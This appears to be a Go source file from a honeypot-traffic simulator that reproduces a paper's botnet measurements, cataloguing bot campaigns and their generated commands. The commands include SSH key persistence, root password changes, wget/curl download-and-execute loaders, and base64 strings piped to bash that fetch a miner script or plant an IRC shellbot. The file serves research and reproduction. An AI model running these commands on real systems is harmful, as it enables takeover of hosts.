@@ -1,0 +1,876 @@
+package botnet
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+	"time"
+)
+
+// MdrfckrDropWindows are the low-activity periods of the dominant
+// campaign, which section 10 correlates with documented attack events.
+var MdrfckrDropWindows = []Window{
+	{From: D(2022, 3, 16), To: D(2022, 3, 25)},   // IRIDIUM DDoS vs Ukraine
+	{From: D(2022, 4, 2), To: D(2022, 4, 13)},    // follow-up wave
+	{From: D(2022, 8, 1), To: D(2022, 8, 3)},     // EU infrastructure hits
+	{From: D(2022, 10, 10), To: D(2022, 10, 17)}, // Sandworm grid attack + Killnet vs US airports
+	{From: D(2023, 3, 2), To: D(2023, 3, 11)},    // KyivStar attack
+	{From: D(2023, 9, 1), To: D(2023, 9, 9)},     // DDoS vs UA administration
+	{From: D(2024, 1, 19), To: D(2024, 1, 22)},   // APT29 data theft
+	{From: D(2024, 4, 4), To: D(2024, 4, 11)},    // Sandworm vs UA infrastructure
+}
+
+// InMdrfckrDrop reports whether day falls in a drop window.
+func InMdrfckrDrop(day time.Time) bool {
+	for _, w := range MdrfckrDropWindows {
+		if !day.Before(w.From) && day.Before(w.To) {
+			return true
+		}
+	}
+	return false
+}
+
+// mdrfckrSchedule builds the campaign profile: slow honeynet discovery in
+// Dec 2021, the early-2022 spike Figure 1 shows, a steady ~45k/day
+// plateau, and ~100/day during drop windows.
+func mdrfckrSchedule() Schedule {
+	segments := Schedule{
+		{From: D(2021, 12, 1), To: D(2022, 1, 1), Rate: 1_500},
+		{From: D(2022, 1, 1), To: D(2022, 2, 1), Rate: 30_000},
+		{From: D(2022, 2, 1), To: D(2022, 5, 1), Rate: 130_000},
+		{From: D(2022, 5, 1), To: WindowEnd, Rate: 47_000},
+	}
+	// Subtract drop windows by splitting: implemented at generation time
+	// via EffectiveRate, so the base schedule stays additive.
+	return segments
+}
+
+// EffectiveRate applies campaign-specific rate overrides (drop windows).
+func EffectiveRate(b *Bot, day time.Time) float64 {
+	rate := b.Schedule.Rate(day)
+	if rate > 0 && (b.Name == "mdrfckr" || b.Name == "mdrfckr_variant") && InMdrfckrDrop(day) {
+		if rate > 100 {
+			return 100
+		}
+	}
+	return rate
+}
+
+// mdrfckrPersist is the key-install line shared by both variants.
+func mdrfckrPersist() string {
+	return `cd ~ && rm -rf .ssh && mkdir .ssh && echo "` + MdrfckrKey + `">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`
+}
+
+var mdrfckrRecon = []string{
+	`cat /proc/cpuinfo | grep name | wc -l`,
+	`cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'`,
+	`free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'`,
+	`ls -lh $(which ls)`,
+	`which ls`,
+	`crontab -l`,
+	`w`,
+	`uname -m`,
+	`top`,
+	`uname`,
+	`uname -a`,
+	`whoami`,
+	`lscpu | grep Model`,
+}
+
+// base64Scripts are the three decoded functionalities seen only in drop
+// windows (section 9): cryptominer setup, IRC shellbot install, and the
+// cleanup script targeting the 8 C&C IPs.
+func base64Script(rng *rand.Rand) string {
+	payloads := []string{
+		"Y3VybCAtcyBodHRwOi8vbWluZS5wb29sL3NldHVwLnNoIHwgYmFzaA==", // miner setup
+		"cGVybCAtZSAndXNlIElPOjpTb2NrZXQ7IyBzaGVsbGJvdCBpcmMgYzIn", // shellbot
+		"Zm9yIGlwIGluIDguOC44LjggOyBkbyBwa2lsbCAtZiAkaXAgOyBkb25l", // cleanup
+	}
+	return fmt.Sprintf("echo %s|base64 -d|bash", payloads[rng.Intn(len(payloads))])
+}
+
+// Catalog builds the full bot population of the observation window.
+func Catalog() []*Bot {
+	bots := []*Bot{
+		// ============ The Outlaw-linked campaign (section 9) ============
+		{
+			Name:        "mdrfckr",
+			Schedule:    mdrfckrSchedule(),
+			PoolSize:    270_000,
+			DailyActive: 7_000,
+			ScalePool:   true,
+			Version:     "SSH-2.0-libssh2_1.8.2",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				pwd := randomAlnum(rng, 15+rng.Intn(5))
+				cmds := []string{
+					`cd ~; chattr -ia .ssh; lockr -ia .ssh`,
+					mdrfckrPersist(),
+					fmt.Sprintf(`echo "root:%s"|chpasswd|bash`, pwd),
+				}
+				n := 3 + rng.Intn(5)
+				perm := rng.Perm(len(mdrfckrRecon))
+				for _, i := range perm[:n] {
+					cmds = append(cmds, mdrfckrRecon[i])
+				}
+				if InMdrfckrDrop(day) {
+					cmds = append(cmds, base64Script(rng))
+				}
+				return Attack{
+					User: "root", Password: dictPassword(rng),
+					Commands: cmds, ClientVersion: b.Version,
+				}
+			},
+		},
+		{
+			Name:        "mdrfckr_variant",
+			Schedule:    Between(D(2022, 12, 8), WindowEnd, 4_000),
+			SharedPool:  "mdrfckr",
+			PoolSize:    270_000,
+			DailyActive: 900,
+			ScalePool:   true,
+			Version:     "SSH-2.0-libssh2_1.8.2",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				cmds := []string{
+					`rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh`,
+					`pkill -9 secure.sh; pkill -9 auth.sh`,
+					`echo > /etc/hosts.deny`,
+					`pkill -9 sleep`,
+					mdrfckrPersist(),
+				}
+				return Attack{User: "root", Password: dictPassword(rng), Commands: cmds, ClientVersion: b.Version}
+			},
+		},
+		{
+			// The credential-only twin: logs in with 3245gs5662d34 and
+			// leaves. Starts 2022-12-08 18:00 UTC; 99.4% IP overlap with
+			// mdrfckr via the shared pool.
+			Name:        "login_3245gs5662d34",
+			Schedule:    Between(D(2022, 12, 8), WindowEnd, 38_000),
+			SharedPool:  "mdrfckr",
+			PoolSize:    270_000,
+			DailyActive: 3_500,
+			ScalePool:   true,
+			Version:     "SSH-2.0-libssh2_1.8.2",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: "3245gs5662d34", ClientVersion: b.Version}
+			},
+		},
+
+		// ============ Non-state-changing scouts (Figure 2) ============
+		{
+			Name: "echo_OK",
+			Schedule: Schedule{
+				{From: WindowStart, To: D(2023, 1, 1), Rate: 55_000},
+				{From: D(2023, 1, 1), To: WindowEnd, Rate: 95_000},
+			},
+			PoolSize: 90_000, DailyActive: 3_000,
+			Version: "SSH-2.0-Go",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`echo -e "\x6F\x6B"`}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "uname_svnrm",
+			Schedule: Steady(6_000),
+			PoolSize: 20_000, DailyActive: 600,
+			Version: "SSH-2.0-libssh_0.9.6",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`uname -s -v -n -r -m`}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name: "bbox_scout_cat",
+			Schedule: append(
+				Between(D(2022, 5, 1), D(2022, 9, 1), 20_000),
+				Between(D(2023, 4, 1), D(2023, 8, 1), 25_000)...),
+			PoolSize: 50_000, DailyActive: 2_000,
+			Version: "SSH-2.0-PUTTY",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands:      []string{`/bin/busybox cat /proc/self/exe || cat /proc/self/exe`},
+					ClientVersion: b.Version}
+			},
+		},
+		{
+			Name: "uname_a",
+			Schedule: append(
+				Between(D(2022, 1, 1), D(2022, 7, 1), 10_000),
+				Between(D(2023, 10, 1), D(2024, 3, 1), 5_000)...),
+			PoolSize: 30_000, DailyActive: 1_200,
+			Version: "SSH-2.0-Go",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`uname -a`}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "uname_a_nproc",
+			Schedule: Between(D(2023, 6, 1), WindowEnd, 4_000),
+			PoolSize: 12_000, DailyActive: 500,
+			Version: "SSH-2.0-Go",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`uname -a`, `nproc`}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "uname_snri_nproc",
+			Schedule: Between(D(2023, 9, 1), D(2024, 5, 1), 3_000),
+			PoolSize: 9_000, DailyActive: 400,
+			Version: "SSH-2.0-libssh_0.9.6",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`uname -s -n -r -i`, `nproc`}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "ak47_scout",
+			Schedule: Between(D(2022, 1, 1), D(2022, 6, 1), 3_000),
+			PoolSize: 8_000, DailyActive: 300,
+			Version: "SSH-2.0-libssh2_1.4.3",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands:      []string{`echo -e "\x41\x4b\x34\x37" && echo writable || echo failed`},
+					ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "shell_fp",
+			Schedule: Steady(2_000),
+			PoolSize: 6_000, DailyActive: 250,
+			Version: "SSH-2.0-libssh2_1.9.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands:      []string{`echo $SHELL`, `dd bs=22 count=1 if=/proc/self/exe`},
+					ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "echo_ok_txt",
+			Schedule: Steady(3_000),
+			PoolSize: 10_000, DailyActive: 350,
+			Version: "SSH-2.0-Go",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`echo ok`}, ClientVersion: b.Version}
+			},
+		},
+
+		// ===== State-changing without execution (Figure 3a) =====
+		{
+			// The proxy-abuse campaign of Appendix C: four client IPs in
+			// one Russian hosting AS drive ~100 curl requests per session
+			// against external targets through 180 honeypots.
+			Name:     "curl_maxred",
+			Schedule: Between(D(2024, 1, 5), D(2024, 4, 25), 1_800),
+			PoolSize: 4, DailyActive: 4,
+			Version: "SSH-2.0-OpenSSH_8.9p1",
+			Gen:     genCurlMaxred,
+		},
+		{
+			Name:     "gen_curl_echo",
+			Schedule: Between(D(2022, 2, 1), D(2023, 1, 1), 3_000),
+			PoolSize: 15_000, DailyActive: 700,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				uri := env.Rotator("generic", 2).URI(rng, day, "i686")
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`curl -s %s -o /tmp/.i686`, uri),
+						`echo installed > /tmp/.flag`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "openssl_passwd",
+			Schedule: Between(D(2023, 3, 1), D(2024, 1, 1), 1_500),
+			PoolSize: 5_000, DailyActive: 250,
+			Version: "SSH-2.0-OpenSSH_7.4",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`openssl passwd -1 %s > /tmp/.cred`, randomAlnum(rng, 8)),
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "root_12_char_capscout",
+			Schedule: Between(D(2023, 6, 1), D(2024, 4, 1), 1_000),
+			PoolSize: 4_000, DailyActive: 200,
+			Version: "SSH-2.0-libssh2_1.9.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`echo "root:%s"|chpasswd`, randomAlnum(rng, 12)),
+						`cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "root_12_char_echo321",
+			Schedule: Between(D(2023, 10, 1), D(2024, 7, 1), 800),
+			PoolSize: 3_000, DailyActive: 150,
+			Version: "SSH-2.0-libssh2_1.9.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`echo "root:%s"|chpasswd`, randomAlnum(rng, 12)),
+						`echo 321`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "root_17_char_pwd",
+			Schedule: Between(D(2022, 6, 1), D(2023, 6, 1), 1_200),
+			PoolSize: 4_500, DailyActive: 220,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`echo root:%s|chpasswd`, randomAlnum(rng, 17)),
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "clamav",
+			Schedule: Waves(D(2023, 2, 1), D(2023, 12, 1), 20, 40, 600),
+			PoolSize: 2_000, DailyActive: 100,
+			Version: "SSH-2.0-OpenSSH_8.2p1",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands:      []string{`apt-get install -y clamav > /tmp/.clam.log`},
+					ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "lenni_0451",
+			Schedule: Between(D(2023, 11, 1), D(2024, 3, 1), 500),
+			PoolSize: 1_500, DailyActive: 80,
+			Version: "SSH-2.0-JSCH-0.1.54",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`echo lenni0451 > /tmp/.marker`}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "stx_miner",
+			Schedule: Between(D(2024, 2, 1), WindowEnd, 700),
+			PoolSize: 2_200, DailyActive: 110,
+			Version: "SSH-2.0-libssh2_1.10.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				uri := env.Rotator(FamilyCoinMiner, 2).URI(rng, day, "stx")
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						`export LC_ALL=C`,
+						fmt.Sprintf(`wget -q %s -O /tmp/stx`, uri),
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "perl_dred_miner",
+			Schedule: Between(D(2023, 5, 1), WindowEnd, 600),
+			PoolSize: 1_800, DailyActive: 90,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				uri := env.Rotator(FamilyCoinMiner, 2).URI(rng, day, "dred.pl")
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`curl -s %s -o /tmp/dred.pl`, uri),
+						`perl /tmp/dred.pl dred > /dev/null`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "grer_echo",
+			Schedule: Between(D(2022, 1, 1), D(2022, 10, 1), 1_500),
+			PoolSize: 5_000, DailyActive: 240,
+			Version: "SSH-2.0-Go",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{`echo -e "\x67\x79" > /tmp/.g`}, ClientVersion: b.Version}
+			},
+		},
+
+		// ============ File-execution bots (Figure 3b) ============
+		{
+			// Ends abruptly mid-2022 with no successor — the takedown
+			// candidate of section 5. Variants split between protocols
+			// the honeypot captures (wget/tftp) and ones it cannot.
+			Name:     "bbox_unlabelled",
+			Family:   FamilyGafgyt,
+			Schedule: Between(WindowStart, D(2022, 7, 15), 12_000),
+			PoolSize: 60_000, DailyActive: 2_500,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen:     genBboxUnlabelled,
+		},
+		{
+			// The long-lived busybox loader that dominates late exec
+			// activity (~60% after 2022); its fetches increasingly fail
+			// to deliver a capturable file — the Figure 4(a) collapse.
+			Name:   "bbox_5_char_v2",
+			Family: FamilyMirai,
+			Schedule: Schedule{
+				{From: D(2022, 1, 10), To: D(2023, 1, 1), Rate: 8_000},
+				{From: D(2023, 1, 1), To: D(2024, 1, 1), Rate: 6_000},
+				{From: D(2024, 1, 1), To: WindowEnd, Rate: 4_000},
+			},
+			PoolSize: 80_000, DailyActive: 3_000,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen:     genBbox5CharV2,
+		},
+		{
+			Name:   "mirai_loader",
+			Family: FamilyMirai,
+			Schedule: append(append(
+				Between(D(2022, 1, 1), D(2022, 6, 1), 4_000),
+				Between(D(2022, 11, 1), D(2023, 1, 15), 5_000)...),
+				Between(D(2024, 3, 1), WindowEnd, 6_000)...), // the 2024 resurgence
+			PoolSize: 45_000, DailyActive: 1_800,
+			Version: "SSH-2.0-libssh2_1.4.3",
+			Gen:     genWgetLoader("mirai.x86", FamilyMirai),
+		},
+		{
+			Name:   "gafgyt_loader",
+			Family: FamilyGafgyt,
+			Schedule: append(
+				Between(D(2022, 3, 1), D(2022, 8, 1), 3_000),
+				Between(D(2023, 2, 1), D(2023, 6, 1), 2_500)...),
+			PoolSize: 30_000, DailyActive: 1_200,
+			Version: "SSH-2.0-libssh2_1.4.3",
+			Gen:     genCurlFtpWgetLoader("gaf.x86", FamilyGafgyt),
+		},
+		{
+			// Continuous until an abrupt stop in early 2024 (cluster C-6).
+			Name:     "xorddos",
+			Family:   FamilyXorDDoS,
+			Schedule: Between(WindowStart, D(2024, 2, 10), 2_500),
+			PoolSize: 25_000, DailyActive: 1_000,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen:     genWgetLoader("xorddos", FamilyXorDDoS),
+		},
+		{
+			// Continuous minimal-loader mix (cluster C-1): Mirai, Dofloo,
+			// CoinMiner, and Gafgyt payloads behind the same five-step
+			// pattern.
+			Name:     "minimal_loader_mix",
+			Family:   FamilyDofloo,
+			Schedule: Steady(3_000),
+			PoolSize: 40_000, DailyActive: 1_500,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen:     genMinimalMix,
+		},
+		{
+			Name:     "sora_attack",
+			Family:   FamilyMirai,
+			Schedule: Between(D(2022, 1, 1), D(2022, 10, 1), 1_500),
+			PoolSize: 9_000, DailyActive: 400,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen:     genWgetLoader("sora.x86", FamilyMirai),
+		},
+		{
+			Name:     "ohshit_attack",
+			Family:   FamilyGafgyt,
+			Schedule: Between(D(2022, 4, 1), D(2023, 1, 1), 1_000),
+			PoolSize: 6_000, DailyActive: 280,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen:     genWgetLoader("ohshit.sh", FamilyGafgyt),
+		},
+		{
+			Name:     "onions_attack",
+			Family:   FamilyGafgyt,
+			Schedule: Between(D(2022, 2, 1), D(2022, 8, 1), 800),
+			PoolSize: 5_000, DailyActive: 220,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen:     genWgetLoader("onions1337.sh", FamilyGafgyt),
+		},
+		{
+			// Executes a file it never transfers through the shell — the
+			// canonical "file missing" bot of Figure 4(b).
+			Name:     "update_attack",
+			Schedule: Steady(1_000),
+			PoolSize: 8_000, DailyActive: 300,
+			Version: "SSH-2.0-OpenSSH_7.4p1",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands:      []string{`cd /tmp; chmod +x update.sh; sh update.sh`},
+					ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "rapperbot",
+			Family:   FamilyMirai,
+			Schedule: Between(D(2022, 6, 1), D(2023, 3, 1), 2_000),
+			PoolSize: 14_000, DailyActive: 600,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						`cd ~ && mkdir -p .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQ rapper" > ~/.ssh/authorized_keys`,
+						`cd /tmp; chmod +x rbot; ./rbot ssh`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "passwd123_daemon",
+			Family:   FamilyGafgyt,
+			Schedule: Between(D(2022, 9, 1), D(2023, 8, 1), 1_200),
+			PoolSize: 7_000, DailyActive: 320,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				uri := env.Rotator(FamilyGafgyt, 2).URI(rng, day, "daemon.sh")
+				return Attack{User: "root", Password: "Password123",
+					Commands: []string{
+						fmt.Sprintf(`wget -q %s -O /tmp/daemon.sh`, uri),
+						`sh /tmp/daemon.sh daemon`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "wget_dget",
+			Schedule: Between(D(2023, 1, 1), D(2024, 1, 1), 900),
+			PoolSize: 4_000, DailyActive: 200,
+			Version: "SSH-2.0-Go",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				uri := env.Rotator("generic", 2).URI(rng, day, "d")
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`wget -4 %s -O /tmp/d || dget -4 %s`, uri, uri),
+						`chmod +x /tmp/d && /tmp/d`,
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "bbox_echo_elf",
+			Family:   FamilyMirai,
+			Schedule: Between(D(2022, 2, 1), D(2023, 1, 1), 1_500),
+			PoolSize: 10_000, DailyActive: 450,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				name := "." + randomAlnum(rng, 4)
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						`/bin/busybox ` + randomUpper(rng, 5),
+						fmt.Sprintf(`echo -ne "\x7f\x45\x4c\x46\x01\x01\x01\x00" > /tmp/%s`, name),
+						fmt.Sprintf(`chmod 777 /tmp/%s && /tmp/%s`, name, name),
+					}, ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "bbox_loaderwget",
+			Family:   FamilyMirai,
+			Schedule: Between(D(2022, 1, 1), D(2022, 9, 1), 1_000),
+			PoolSize: 6_000, DailyActive: 260,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				uri := env.Rotator(FamilyMirai, 2).URI(rng, day, "loader.wget")
+				return Attack{User: "root", Password: dictPassword(rng),
+					Commands: []string{
+						fmt.Sprintf(`/bin/busybox wget %s -O /tmp/loader.wget`, uri),
+						`sh /tmp/loader.wget`,
+					}, ClientVersion: b.Version}
+			},
+		},
+
+		// ============ Credential campaigns (Figure 10) ============
+		{
+			Name:     "cred_admin",
+			Schedule: Steady(13_000),
+			PoolSize: 120_000, DailyActive: 4_000,
+			Version: "SSH-2.0-libssh_0.9.6",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: "admin", ClientVersion: b.Version}
+			},
+		},
+		{
+			Name:     "cred_1234",
+			Schedule: Steady(10_000),
+			PoolSize: 100_000, DailyActive: 3_200,
+			Version: "SSH-2.0-libssh_0.9.6",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: "1234", ClientVersion: b.Version}
+			},
+		},
+		{
+			// The synchronized TV-box pair: "dreambox" (Dreambox Enigma)
+			// and "vertex25ektks123" (Dasan H660DW), one botnet cycling
+			// both defaults; sparse Mirai-labeled payload drops.
+			Name:   "tvbox_mirai",
+			Family: FamilyMirai,
+			// Waves, not a steady rate: the on/off campaign rhythm is what
+			// synchronizes the two default passwords' monthly series in
+			// Figure 10.
+			Schedule: Waves(D(2023, 4, 1), WindowEnd, 35, 25, 34_000),
+			PoolSize: 80_000, DailyActive: 2_600,
+			Version: "SSH-2.0-HELLOWORLD",
+			Gen:     genTVBox,
+		},
+		{
+			// The Cowrie fingerprinting probes of section 8: log in as
+			// "phil", disconnect immediately, never return.
+			Name:     "phil_fingerprint",
+			Schedule: Steady(30),
+			PoolSize: 10_500, DailyActive: 0,
+			Version: "SSH-2.0-OpenSSH_8.9",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "phil", Password: randomAlnum(rng, 8), ClientVersion: b.Version}
+			},
+		},
+		{
+			// Probes for the pre-2020 Cowrie default, which fails on this
+			// deployment — pure scouting.
+			Name:     "richard_probe",
+			Schedule: Steady(20),
+			PoolSize: 7_000, DailyActive: 0,
+			Version: "SSH-2.0-OpenSSH_8.9",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "richard", Password: randomAlnum(rng, 8),
+					FinalFails: true, ClientVersion: b.Version}
+			},
+		},
+
+		// ============ Background populations ============
+		{
+			// Dictionary brute-forcers that never guess a working
+			// credential: the scouting mass (258M sessions).
+			Name:     "dict_bruteforce",
+			Schedule: Steady(257_000),
+			PoolSize: 450_000, DailyActive: 15_000,
+			Version: "SSH-2.0-libssh_0.9.6",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				n := 1 + rng.Intn(3)
+				var fails [][2]string
+				for i := 0; i < n; i++ {
+					fails = append(fails, failingCred(rng))
+				}
+				last := failingCred(rng)
+				return Attack{PreFailed: fails, User: last[0], Password: last[1],
+					FinalFails: true, ClientVersion: b.Version}
+			},
+		},
+		{
+			// Generic successful logins with no interaction: the
+			// remaining intrusion mass.
+			Name:     "misc_intrusion",
+			Schedule: Steady(25_000),
+			PoolSize: 200_000, DailyActive: 7_000,
+			Version: "SSH-2.0-libssh2_1.8.0",
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{User: "root", Password: randomAlnum(rng, 6+rng.Intn(6)),
+					ClientVersion: b.Version}
+			},
+		},
+		{
+			// Telnet-side traffic: the classic Mirai-style default-
+			// credential walk on port 23 (the 89M non-SSH sessions of
+			// section 3.3; the paper's analyses use the SSH subset).
+			Name:     "telnet_brute",
+			Schedule: Steady(88_000),
+			PoolSize: 250_000, DailyActive: 9_000,
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				switch p := rng.Float64(); {
+				case p < 0.15:
+					return Attack{Telnet: true, NoLogin: true}
+				case p < 0.80:
+					c := failingCred(rng)
+					return Attack{Telnet: true, User: c[0], Password: c[1], FinalFails: true}
+				case p < 0.95:
+					return Attack{Telnet: true, User: "root", Password: dictPassword(rng)}
+				default:
+					return Attack{Telnet: true, User: "root", Password: dictPassword(rng),
+						Commands: []string{`/bin/busybox ` + randomUpper(rng, 5)}}
+				}
+			},
+		},
+		{
+			// Pure TCP scans (45M sessions).
+			Name:     "scanner",
+			Schedule: Steady(45_000),
+			PoolSize: 300_000, DailyActive: 10_000,
+			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+				return Attack{NoLogin: true}
+			},
+		},
+	}
+	return bots
+}
+
+// Family names re-exported for catalog readability (they mirror
+// abusedb's labels without importing it, keeping botnet dependency-light).
+const (
+	FamilyMirai     = "Mirai"
+	FamilyGafgyt    = "Gafgyt"
+	FamilyDofloo    = "Dofloo"
+	FamilyCoinMiner = "CoinMiner"
+	FamilyXorDDoS   = "XorDDos"
+)
+
+// dictPassword draws the successful-login password brute-forcers land
+// on: weighted toward the classic weak passwords of Figure 10.
+func dictPassword(rng *rand.Rand) string {
+	// Most bots walk large dictionaries; the classic weak passwords of
+	// Figure 10 appear with a small, realistic bias so the dedicated
+	// credential campaigns (cred_admin, tvbox_mirai, 3245gs) stay on
+	// top of the ranking, as in the paper.
+	common := []string{"admin", "1234", "12345", "123456", "password", "qwerty", "abc123", "letmein"}
+	if rng.Float64() < 0.12 {
+		return common[rng.Intn(len(common))]
+	}
+	return randomAlnum(rng, 5+rng.Intn(8))
+}
+
+// failingCred draws a credential pair the honeypot rejects.
+func failingCred(rng *rand.Rand) [2]string {
+	for {
+		c := dictionary[rng.Intn(len(dictionary))]
+		if c[0] == "root" && c[1] != "root" {
+			continue // would succeed
+		}
+		return c
+	}
+}
+
+// genCurlMaxred produces the Appendix C proxy-abuse session: ~100 curl
+// requests with unique cookies against Russian/Ukrainian targets.
+func genCurlMaxred(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
+	targets := []string{
+		"203.0.113.40", "203.0.113.41", "trade.example.ru", "crypto.example.ru",
+		"shop.example.ua", "tg-bot.example.ru", "market.example.ua", "game.example.ru",
+	}
+	n := 90 + rng.Intn(20)
+	cmds := make([]string, 0, n)
+	methods := []string{"GET", "POST", "PUT", "HEAD"}
+	for i := 0; i < n; i++ {
+		cmds = append(cmds, fmt.Sprintf(
+			`curl https://%s/ -s -X %s --max-redirs 5 --compressed --cookie 'sid=%s' --raw --referer 'https://%s/'`,
+			targets[rng.Intn(len(targets))], methods[rng.Intn(len(methods))],
+			randomHex(rng, 24), targets[rng.Intn(len(targets))]))
+	}
+	return Attack{User: "root", Password: dictPassword(rng), Commands: cmds, ClientVersion: b.Version}
+}
+
+// genBboxUnlabelled mixes transfer variants: some the honeypot captures
